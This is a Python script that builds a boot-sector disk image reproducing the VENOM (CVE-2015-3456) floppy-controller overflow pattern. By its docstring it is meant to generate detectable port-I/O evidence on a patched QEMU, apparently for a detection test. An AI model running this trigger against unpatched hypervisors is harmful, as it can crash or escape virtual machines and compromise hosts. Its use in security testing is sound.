#!/usr/bin/python3
"""Writes a bootable disk image whose boot sector drives the floppy disk
controller the way the VENOM exploit (CVE-2015-3456) does: it enables the
controller through the DOR (port 0x3f2), then writes the DRIVE SPECIFICATION
COMMAND (0x8e) followed by a stream of parameter bytes into the data FIFO
(port 0x3f5), over and over. On QEMU < 2.3.1 that overran the FIFO buffer; on
the QEMU of these machines (7.2) the FIFO index is reset and the guest just
keeps the device busy, which is the point: the port-I/O pattern is the
evidence. No operating system: the BIOS loads the sector at 0x7c00 and jumps
to it, in real mode.

usage: venom-boot.py OUTPUT.img
"""
import sys

MARKER = b"HVS-VENOM-FDC-ATTACK"
code = bytes([
    0xfa,                   # cli
    0x31, 0xc0,             # xor ax, ax
    0x8e, 0xd8,             # mov ds, ax
    0xba, 0xf2, 0x03,       # mov dx, 0x3f2      digital output register
    0xb0, 0x0c,             # mov al, 0x0c       controller enabled, DMA on
    0xee,                   # out dx, al
    0xba, 0xf5, 0x03,       # mov dx, 0x3f5      data FIFO
    # top:
    0xb0, 0x8e,             # mov al, 0x8e       DRIVE SPECIFICATION COMMAND
    0xee,                   # out dx, al
    0xb9, 0x00, 0x02,       # mov cx, 0x200
    # fill:
    0xb0, 0x42,             # mov al, 0x42       parameter bytes
    0xee,                   # out dx, al
    0xe2, 0xfb,             # loop fill
    0xeb, 0xf3,             # jmp top
])
assert code[-1] == 0xf3 and len(code) == 0x1b  # jmp rel8 from 0x1b back to top at 0x0e
sector = bytearray(512)
sector[:len(code)] = code
sector[0x40:0x40 + len(MARKER)] = MARKER
sector[510:512] = b"\x55\xaa"
with open(sys.argv[1], "wb") as f:
    f.write(bytes(sector) + bytes(64 * 1024 - 512))
